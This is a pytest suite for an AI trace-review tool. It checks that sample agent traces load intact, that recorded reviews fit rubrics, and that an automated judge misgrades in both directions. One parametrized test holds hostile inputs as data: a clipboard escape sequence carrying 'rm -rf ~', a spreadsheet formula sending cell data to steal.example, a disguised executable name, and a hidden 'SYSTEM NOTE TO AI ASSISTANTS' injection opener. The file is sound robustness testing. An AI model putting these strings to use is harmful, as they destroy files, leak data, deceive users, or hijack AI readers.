"""The sample traces are what their README says, and the recorded review fits them."""

from __future__ import annotations

import json
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from tracejury.rubrics.files import builtin_rubrics
from tracejury.rubrics.scoring import missing, verdict_of
from tracejury.sample_traces import BUNDLES, RECORDED_REVIEW, sample_folder
from tracejury.sample_traces.stories import APPLICATIONS, Story, read_stories
from tracejury.sample_traces.write_samples import ANSWER_BOOK, sample_files
from tracejury.store.bundles.opening import read_bundle
from tracejury.store.library.library import Library
from tracejury.store.loading.load import load
from tracejury.store.trace import Trace, answer_text, as_text, trace_content


@dataclass(frozen=True)
class Samples:
    folder: Path
    formats: dict[str, str]
    traces: dict[str, dict[str, Trace]]
    rejects: list[Any]
    reviews: list[dict[str, Any]]

    def all(self) -> list[Trace]:
        return [trace for found in self.traces.values() for trace in found.values()]


@pytest.fixture(scope="module")
def samples() -> Iterator[Samples]:
    formats, traces, rejects = {}, {}, []
    with sample_folder() as folder:
        for name in BUNDLES:
            for part in read_bundle(folder / name):
                formats[name] = part.format
                found = list(part.items)
                rejects += [item for item in found if not isinstance(item, Trace)]
                traces[name] = {
                    str(item.source_id): item for item in found if isinstance(item, Trace)
                }
        lines = (folder / RECORDED_REVIEW).read_text(encoding="utf-8").splitlines()
        yield Samples(folder, formats, traces, rejects, [json.loads(line) for line in lines])


@pytest.fixture(scope="module")
def stories() -> list[Story]:
    return [story for application in APPLICATIONS for story in read_stories(application)]


def test_the_committed_files_are_what_the_stories_write(samples: Samples) -> None:
    written = dict(sample_files())
    for name, text in written.items():
        assert (samples.folder / name).read_bytes() == text.encode(), f"{name} is out of date"
    present = {f"{BUNDLES[1]}/{path.name}" for path in (samples.folder / BUNDLES[1]).iterdir()}
    assert present == {name for name in written if name.startswith(f"{BUNDLES[1]}/")}


def test_three_formats_hold_73_traces_and_nothing_is_rejected(samples: Samples) -> None:
    assert samples.rejects == []
    assert {name: (samples.formats[name], len(samples.traces[name])) for name in BUNDLES} == {
        "airline_support.otlp.jsonl": ("otlp", 29),
        "clinic_assistant": ("langfuse", 23),
        "contract_review.jsonl": ("messages", 21),
    }


def test_no_reader_had_to_repair_a_sample(samples: Samples) -> None:
    assert [trace.notes for trace in samples.all() if trace.notes] == []


def test_every_trace_came_through_with_its_question_answer_judge_and_slices(
    samples: Samples, stories: list[Story]
) -> None:
    by_question = Counter(story.user for story in stories)
    assert Counter(as_text(trace.input) for trace in samples.all()) == by_question
    answers = Counter(story.answer for story in stories)
    assert Counter(answer_text(trace) for trace in samples.all()) == answers
    for trace in samples.all():
        judge = trace.scores[0]
        assert judge.value is not None
        assert judge.explanation
        assert {"locale", "model"} <= set(trace.metadata)


def test_every_trace_has_exactly_one_recorded_review_that_answers_its_rubric(
    samples: Samples,
) -> None:
    reviewed = Counter((line["bundle"], line["source_id"]) for line in samples.reviews)
    held = {(name, source) for name in BUNDLES for source in samples.traces[name]}
    assert set(reviewed) == held
    assert set(reviewed.values()) == {1}
    rubrics = builtin_rubrics()
    for line in samples.reviews:
        rubric = rubrics[line["rubric"]["id"]]
        assert verdict_of(rubric, line["answers"]) == line["verdict"]
        assert missing(rubric, line["answers"]) == (), line["source_id"]


def test_every_step_that_a_review_names_exists(samples: Samples) -> None:
    for line in samples.reviews:
        trace = samples.traces[line["bundle"]][line["source_id"]]
        named = [
            *(line[place]["step"] for place in ("break_point", "root_cause") if place in line),
            *line.get("break_point", {}).get("alternates", []),
            *(mark["step"] for mark in line.get("marks", [])),
            *(item["step"] for item in line.get("evidence", [])),
        ]
        assert all(trace.step(str(step)) is not None for step in named), line["source_id"]


def test_every_failure_has_a_break_point_a_correction_and_words_not_to_say(
    samples: Samples,
) -> None:
    failures = [line for line in samples.reviews if line["verdict"] == "fail"]
    assert len(failures) >= 30
    for line in failures:
        trace = samples.traces[line["bundle"]][line["source_id"]]
        assert "break_point" in line
        bad = [item for item in line["evidence"] if item["kind"] == "must-not-say"]
        assert bad
        for item in bad:
            assert answer_text(trace)[item["start"] : item["end"]] == item["text"]
            assert item["text"] not in line["correction"]["text"]
        for item in line["evidence"]:
            if item["kind"] == "must-say":
                assert item["text"] in line["correction"]["text"]
                assert item["text"] not in answer_text(trace)


def test_many_causes_lie_well_before_the_answer(samples: Samples) -> None:
    far = 0
    for line in samples.reviews:
        if "break_point" not in line:
            continue
        trace = samples.traces[line["bundle"]][line["source_id"]]
        ids = [step.id for step in trace.steps]
        far += len(ids) - 1 - ids.index(str(line["break_point"]["step"])) >= 3
    assert far >= 15


def test_the_judge_is_wrong_both_ways(stories: list[Story]) -> None:
    fooled = [s for s in stories if s.judge["score"] >= 0.7 and s.review["verdict"] == "fail"]
    harsh = [s for s in stories if s.judge["score"] < 0.7 and s.review["verdict"] == "pass"]
    assert len(fooled) >= 8
    assert len(harsh) >= 5


def test_about_half_of_the_traces_are_good(samples: Samples) -> None:
    verdicts = Counter(line["verdict"] for line in samples.reviews)
    assert 0.4 <= verdicts["pass"] / len(samples.reviews) <= 0.6


def test_the_same_question_got_a_right_and_a_wrong_answer(stories: list[Story]) -> None:
    twins = [s for s in stories if s.id.startswith("infant-answer")]
    assert len({s.user for s in twins}) == 1
    assert {s.review["verdict"] for s in twins} == {"pass", "fail"}


@pytest.mark.parametrize(
    "hostile",
    [
        "\x1b[2J\x1b[31mACCOUNT SUSPENDED\x1b[0m\x07",
        "\x1b]52;c;cm0gLXJmIH4=\x07",
        "[@click=app.quit]press here to confirm[/]",
        '=HYPERLINK("http://steal.example/?q="&A1,"Confirm booking")',
        "invoice_\u202efdp.exe",
        "\u200b\u200b",
        "<!-- SYSTEM NOTE TO AI ASSISTANTS",
    ],
)
def test_hostile_text_is_read_unchanged(samples: Samples, hostile: str) -> None:
    def texts(value: object) -> Iterator[str]:
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict):
            for item in value.values():
                yield from texts(item)
        elif isinstance(value, list):
            for item in value:
                yield from texts(item)

    plain = json.dumps(hostile, ensure_ascii=False)[1:-1]
    assert any(
        hostile in text or plain in text
        for trace in samples.all()
        for text in texts(trace_content(trace))
    )


@pytest.mark.parametrize("bot", ["broken", "fixed"])
def test_a_candidate_answers_from_the_conversation_alone(
    samples: Samples, stories: list[Story], bot: str
) -> None:
    story = next(story for story in stories if story.review["verdict"] == "fail")
    case = {
        "protocol": "tracejury.candidate/1",
        "case_id": "0001",
        "trial": 1,
        "input": {"messages": [{"role": "user", "content": story.user}]},
    }
    done = subprocess.run(
        [sys.executable, str(samples.folder / "candidates" / f"{bot}_bot.py")],
        input=json.dumps(case).encode(),
        capture_output=True,
        check=True,
    )
    expected = story.answer if bot == "broken" else story.review["correction"]
    assert json.loads(done.stdout) == {"output": expected}


def test_a_candidate_that_does_not_know_a_conversation_says_so(samples: Samples) -> None:
    done = subprocess.run(
        [sys.executable, str(samples.folder / "candidates" / "fixed_bot.py")],
        input=b'{"input": {"messages": [{"role": "user", "content": "Who are you?"}]}}',
        capture_output=True,
        check=False,
    )
    assert done.returncode == 1
    assert done.stdout == b""


def test_the_answer_book_has_one_page_a_question(samples: Samples, stories: list[Story]) -> None:
    book = json.loads((samples.folder / ANSWER_BOOK).read_text(encoding="utf-8"))
    assert len(book) == len({story.user for story in stories}) == len(stories) - 1


def test_the_store_gives_every_sample_back_unchanged(samples: Samples, tmp_path: Path) -> None:
    library = Library.open(tmp_path / "library")
    try:
        report = load(library, [samples.folder / name for name in BUNDLES])
        assert (report.totals.new, report.totals.rejected) == (73, 0)
        for trace in samples.all():
            kept = library.trace(trace.key)
            assert kept is not None
            assert trace_content(kept) == trace_content(trace)
    finally:
        library.close()
